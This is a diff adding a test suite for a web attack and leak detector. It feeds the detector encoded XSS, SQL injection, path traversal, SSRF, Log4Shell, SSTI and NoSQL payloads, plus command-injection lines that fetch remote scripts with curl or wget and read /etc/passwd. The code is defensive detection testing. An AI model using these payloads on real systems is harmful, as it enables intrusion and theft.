@@ -1,0 +1,272 @@
+/// <reference types="assemblyscript/std/assembly/index" />
+/// <reference types="@as-pect/assembly/types/as-pect.d" />
+import {
+  AttackFindings, AttackScanner, detectAttacks, detectLeaks, attackName, attackKindByName,
+  ATTACK_SQLI, ATTACK_XSS, ATTACK_PATH_TRAVERSAL, ATTACK_COMMAND_INJECTION, ATTACK_SSRF, ATTACK_LOG4SHELL,
+  ATTACK_SSTI, ATTACK_NOSQLI, ATTACK_PROTOTYPE_POLLUTION, LEAK_STACK_TRACE, LEAK_SQL_ERROR, SOURCE_QUERY, SOURCE_JSON,
+} from "../../assembly/attack/index";
+import { ByteBuf, Normalizer, urlDecode, htmlEntityDecode, jsUnescape, utf8Normalize, normalizeSpace, stripSqlComments, foldCase } from "../../assembly/attack/decode";
+import { sqliLevel, sqlTokens } from "../../assembly/attack/sqli";
+import { xssLevel } from "../../assembly/attack/xss";
+import { pathTraversalLevel, commandInjectionLevel, ssrfLevel, parseLooseIpv4 } from "../../assembly/attack/misc";
+
+/** A raw detector level that does not fire at paranoia 1. */
+function quietAtL1(level: i32): bool { return level == 0 || level > 1; }
+
+function bytes(s: string): Uint8Array { return Uint8Array.wrap(String.UTF8.encode(s)); }
+
+const out = new AttackFindings();
+function kinds(s: string, key: string = "", level: i32 = 1, source: i32 = SOURCE_JSON): i32 {
+  out.reset();
+  const b = bytes(s);
+  detectAttacks(b, 0, b.length, key, level, out, source);
+  return out.mask;
+}
+function fires(s: string, kind: i32, key: string = "", level: i32 = 1, source: i32 = SOURCE_JSON): bool {
+  return (kinds(s, key, level, source) & (1 << kind)) != 0;
+}
+/** Lower-case bytes of s, as detectors see them when no decoding step applies. */
+function lowerRaw(s: string): ByteBuf {
+  const b = new ByteBuf();
+  const src = bytes(s);
+  b.copyFrom(src, 0, src.length);
+  foldCase(b);
+  return b;
+}
+
+describe("decoding: each step catches an encoded payload the raw bytes hide", () => {
+  test("URL decoding", () => {
+    const p = "%3Cscript%3Ealert(1)%3C%2Fscript%3E";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_XSS)).toBe(true);
+  });
+  test("double URL decoding", () => {
+    const p = "%253Cscript%253Ealert(1)";
+    const once = new ByteBuf();
+    const src = bytes(p);
+    urlDecode(src, 0, src.length, once, false);
+    expect(quietAtL1(xssLevel(once.data, 0, once.len))).toBe(true);
+    expect(fires(p, ATTACK_XSS)).toBe(true);
+  });
+  test("plus decoding (query/form values)", () => {
+    const p = "<img+src=x+onerror=alert(1)>";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_XSS, "q", 1, SOURCE_QUERY)).toBe(true);
+    expect(fires(p, ATTACK_XSS, "q", 1, SOURCE_JSON)).toBe(false);
+  });
+  test("HTML entities, named and numeric (with and without ';', leading zeros)", () => {
+    const p = "&lt;script&gt;alert(1)&lt;/script&gt;";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_XSS)).toBe(true);
+    const q = "<a href=\"&#106;&#x61;vascript&#0000058alert(1)\">x</a>";
+    const rq = lowerRaw(q);
+    expect(quietAtL1(xssLevel(rq.data, 0, rq.len))).toBe(true);
+    expect(fires(q, ATTACK_XSS)).toBe(true);
+  });
+  test("JSON/JS escapes \\uXXXX and \\xHH", () => {
+    const p = "\\u003cscript\\u003ealert(1)";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(xssLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_XSS)).toBe(true);
+    expect(fires("\\x3cscript\\x3ealert(1)", ATTACK_XSS)).toBe(true);
+  });
+  test("UTF-8 overlong forms (%c0%ae%c0%ae%c0%af)", () => {
+    const p = "%c0%ae%c0%ae%c0%afetc%c0%afpasswd";
+    const once = new ByteBuf();
+    const src = bytes(p);
+    urlDecode(src, 0, src.length, once, false);
+    expect(quietAtL1(pathTraversalLevel(once.data, 0, once.len))).toBe(true);
+    expect(fires(p, ATTACK_PATH_TRAVERSAL)).toBe(true);
+    const n = new ByteBuf();
+    expect(utf8Normalize(once.data, 0, once.len, n)).toBe(true);
+    expect(n.toString()).toBe("../etc/passwd");
+  });
+  test("case folding", () => {
+    const p = "<ScRiPt>alert(1)</sCrIpT>";
+    const b = bytes(p);
+    expect(quietAtL1(xssLevel(b, 0, b.length))).toBe(true);
+    expect(fires(p, ATTACK_XSS)).toBe(true);
+  });
+  test("SQL comment stripping (UN/**/ION)", () => {
+    const p = "1 UN/**/ION SEL/**/ECT password FROM users";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(sqliLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_SQLI)).toBe(true);
+    const s = new ByteBuf();
+    const src = bytes("a/*x*/b/*!50000union*/ -- c");
+    stripSqlComments(src, 0, src.length, s);
+    expect(s.toString()).toBe("abunion  ");
+  });
+  test("whitespace normalisation (UTF-8 NBSP between tokens)", () => {
+    const p = "1'\u00a0or\u00a01=1--";
+    const raw = lowerRaw(p);
+    expect(quietAtL1(sqliLevel(raw.data, 0, raw.len))).toBe(true);
+    expect(fires(p, ATTACK_SQLI)).toBe(true);
+    const n = new ByteBuf();
+    const src = bytes("a \t\n b");
+    normalizeSpace(src, 0, src.length, n);
+    expect(n.toString()).toBe("a\nb");
+  });
+  test("decoders are bounded: output never exceeds the cap", () => {
+    const big = new Uint8Array(40000).fill(0x41);
+    const n = new Normalizer();
+    n.run(big, 0, big.length, SOURCE_QUERY);
+    expect(n.out.len).toBeLessThanOrEqual(16384);
+    expect(n.truncated).toBe(true);
+  });
+  test("entity and escape decoders leave plain text alone", () => {
+    const o = new ByteBuf();
+    const src = bytes("Tom & Jerry \\ co; 100% & more");
+    expect(htmlEntityDecode(src, 0, src.length, o)).toBe(false);
+    expect(jsUnescape(src, 0, src.length, o)).toBe(false);
+    expect(urlDecode(src, 0, src.length, o, false)).toBe(false);
+  });
+});
+
+describe("attack.sqli", () => {
+  test("fingerprints in three quote contexts", () => {
+    const b = bytes("1' or '1'='1");
+    expect(sqlTokens(b, 0, b.length, 0x27).fingerprint()).toBe("s&sos");
+    const u = bytes("-1 union select 1,2");
+    expect(sqlTokens(u, 0, u.length, 0).fingerprint()).toBe("nUEn,n");
+  });
+  test("classic injections", () => {
+    expect(fires("1' or '1'='1", ATTACK_SQLI)).toBe(true);
+    expect(fires("admin'--", ATTACK_SQLI)).toBe(true);
+    expect(fires("1 AND 1=1", ATTACK_SQLI)).toBe(true);
+    expect(fires("1; DROP TABLE users", ATTACK_SQLI)).toBe(true);
+    expect(fires("1 AND SLEEP(5)", ATTACK_SQLI)).toBe(true);
+    expect(fires("'; WAITFOR DELAY '0:0:5'--", ATTACK_SQLI)).toBe(true);
+    expect(fires("1' ORDER BY 3--", ATTACK_SQLI)).toBe(true);
+  });
+  test("prose with quotes and SQL words stays quiet", () => {
+    expect(fires("O'Brien's \"union\" select committee", ATTACK_SQLI)).toBe(false);
+    expect(fires("I'd like to update my order and delete the old address", ATTACK_SQLI)).toBe(false);
+    expect(fires("Meet me @ 10; sleep well", ATTACK_SQLI)).toBe(false);
+    expect(fires("Rock 'n' roll & blues", ATTACK_SQLI)).toBe(false);
+  });
+});
+
+describe("attack.xss", () => {
+  test("script contexts, handlers, script URLs, dangerous tags, CSS expressions", () => {
+    expect(fires("<script>alert(1)</script>", ATTACK_XSS)).toBe(true);
+    expect(fires("<svg/onload=alert(1)>", ATTACK_XSS)).toBe(true);
+    expect(fires("<a href=\"java\tscript:alert(1)\">x</a>", ATTACK_XSS)).toBe(true);
+    expect(fires("javascript:alert(document.cookie)", ATTACK_XSS)).toBe(true);
+    expect(fires("<iframe src=//evil>", ATTACK_XSS)).toBe(true);
+    expect(fires("<meta http-equiv=refresh content=\"0;url=data:text/html,x\">", ATTACK_XSS)).toBe(true);
+    expect(fires("<div style=\"width:expression(alert(1))\">", ATTACK_XSS)).toBe(true);
+    expect(fires("\" onmouseover=\"alert(1)", ATTACK_XSS)).toBe(true);
+  });
+  test("ordinary markup and comparisons stay quiet", () => {
+    expect(fires("<b>bold</b> and <i>italic</i>", ATTACK_XSS)).toBe(false);
+    expect(fires("if a<b and c>d then", ATTACK_XSS)).toBe(false);
+    expect(fires("online=yes", ATTACK_XSS)).toBe(false);
+  });
+});
+
+describe("other request-side detectors", () => {
+  test("path traversal", () => {
+    expect(fires("../../../etc/passwd", ATTACK_PATH_TRAVERSAL)).toBe(true);
+    expect(fires("..\\..\\windows\\win.ini", ATTACK_PATH_TRAVERSAL)).toBe(true);
+    expect(fires("%2e%2e%2f%2e%2e%2fetc%2fshadow", ATTACK_PATH_TRAVERSAL)).toBe(true);
+    expect(fires("Wait... what?", ATTACK_PATH_TRAVERSAL)).toBe(false);
+  });
+  test("command injection", () => {
+    expect(fires("x; cat /etc/passwd", ATTACK_COMMAND_INJECTION)).toBe(true);
+    expect(fires("a | whoami", ATTACK_COMMAND_INJECTION)).toBe(true);
+    expect(fires("$(curl http://x/s.sh)", ATTACK_COMMAND_INJECTION)).toBe(true);
+    expect(fires("`id`", ATTACK_COMMAND_INJECTION)).toBe(true);
+    expect(fires("x\nwget http://evil/x", ATTACK_COMMAND_INJECTION)).toBe(true);
+    expect(fires("Tom & Jerry; ping me later", ATTACK_COMMAND_INJECTION)).toBe(false);
+  });
+  test("ssrf: loopback, metadata, odd schemes, encoded IPs", () => {
+    expect(fires("http://169.254.169.254/latest/meta-data/", ATTACK_SSRF)).toBe(true);
+    expect(fires("http://metadata.google.internal/computeMetadata/v1/", ATTACK_SSRF)).toBe(true);
+    expect(fires("http://2130706433/", ATTACK_SSRF)).toBe(true);
+    expect(fires("http://0x7f.1/", ATTACK_SSRF)).toBe(true);
+    expect(fires("http://evil.com@127.0.0.1:8080/", ATTACK_SSRF)).toBe(true);
+    expect(fires("gopher://x:25/_HELO", ATTACK_SSRF)).toBe(true);
+    expect(fires("http://[::1]/", ATTACK_SSRF)).toBe(true);
+    expect(fires("https://example.com/a?b=1", ATTACK_SSRF)).toBe(false);
+    expect(fires("8455 Long Lane", ATTACK_SSRF)).toBe(false);
+    expect(parseLooseIpv4(bytes("0177.0.0.1"), 0, 10)).toBe(0x7f000001);
+  });
+  test("log4shell and its obfuscations", () => {
+    expect(fires("${jndi:ldap://x/a}", ATTACK_LOG4SHELL)).toBe(true);
+    expect(fires("${${lower:j}ndi:ldap://x/a}", ATTACK_LOG4SHELL)).toBe(true);
+    expect(fires("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", ATTACK_LOG4SHELL)).toBe(true);
+    expect(fires("${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}", ATTACK_LOG4SHELL)).toBe(true);
+    expect(fires("Price: ${price}", ATTACK_LOG4SHELL)).toBe(false);
+  });
+  test("ssti", () => {
+    expect(fires("{{7*7}}", ATTACK_SSTI)).toBe(true);
+    expect(fires("{{''.__class__.__mro__}}", ATTACK_SSTI)).toBe(true);
+    expect(fires("<%= system('id') %>", ATTACK_SSTI)).toBe(true);
+    expect(fires("{{ first_name }}, your order shipped", ATTACK_SSTI)).toBe(false);
+  });
+  test("nosqli in keys and values", () => {
+    expect(fires("1", ATTACK_NOSQLI, "password[$ne]")).toBe(true);
+    expect(fires("1", ATTACK_NOSQLI, "$where")).toBe(true);
+    expect(fires("{\"$gt\": \"\"}", ATTACK_NOSQLI)).toBe(true);
+    expect(fires("costs $5", ATTACK_NOSQLI, "price")).toBe(false);
+  });
+  test("prototype pollution", () => {
+    expect(fires("1", ATTACK_PROTOTYPE_POLLUTION, "__proto__")).toBe(true);
+    expect(fires("a[constructor][prototype][x]=1", ATTACK_PROTOTYPE_POLLUTION)).toBe(true);
+    expect(fires("the constructor of the prototype", ATTACK_PROTOTYPE_POLLUTION)).toBe(false);
+  });
+  test("paranoia levels: higher levels only add findings", () => {
+    const v = "1 or 2";
+    const l1 = kinds(v, "", 1), l4 = kinds(v, "", 4);
+    expect(l1 & ~l4).toBe(0);
+  });
+});
+
+describe("response-side leaks", () => {
+  test("stack traces and SQL errors", () => {
+    const f = new AttackFindings();
+    const j = bytes("java.lang.NullPointerException\n\tat com.acme.Foo.bar(Foo.java:42)");
+    detectLeaks(j, 0, j.length, 1, f);
+    expect(f.has(LEAK_STACK_TRACE)).toBe(true);
+    f.reset();
+    const p = bytes("Traceback (most recent call last):\n  File \"app.py\", line 3");
+    detectLeaks(p, 0, p.length, 1, f);
+    expect(f.has(LEAK_STACK_TRACE)).toBe(true);
+    f.reset();
+    const m = bytes("You have an error in your SQL syntax; check the manual");
+    detectLeaks(m, 0, m.length, 1, f);
+    expect(f.has(LEAK_SQL_ERROR)).toBe(true);
+    f.reset();
+    const ok = bytes("{\"status\":\"ok\",\"message\":\"order created\"}");
+    detectLeaks(ok, 0, ok.length, 4, f);
+    expect(f.count).toBe(0);
+  });
+});
+
+describe("API and robustness", () => {
+  test("names round-trip", () => {
+    expect(attackName(ATTACK_SQLI)).toBe("attack.sqli");
+    expect(attackKindByName("leak.sql_error")).toBe(LEAK_SQL_ERROR);
+    expect(attackName(99)).toBe("");
+  });
+  test("out-of-range spans and random bytes never trap", () => {
+    const sc = new AttackScanner();
+    const f = new AttackFindings();
+    const b = bytes("<script>");
+    sc.detect(b, -5, 999, "k", 9, f);
+    expect(f.has(ATTACK_XSS)).toBe(true);
+    let seed: u32 = 12345;
+    const r = new Uint8Array(3000);
+    for (let round = 0; round < 20; round++) {
+      for (let i = 0; i < r.length; i++) { seed = seed * 1103515245 + 12345; r[i] = <u8>(seed >> 16); }
+      f.reset();
+      sc.detect(r, 0, r.length, "", 4, f, SOURCE_QUERY);
+      sc.detectResponse(r, 0, r.length, 4, f);
+    }
+    expect(f.count).toBeGreaterThanOrEqual(0);
+  });
+});
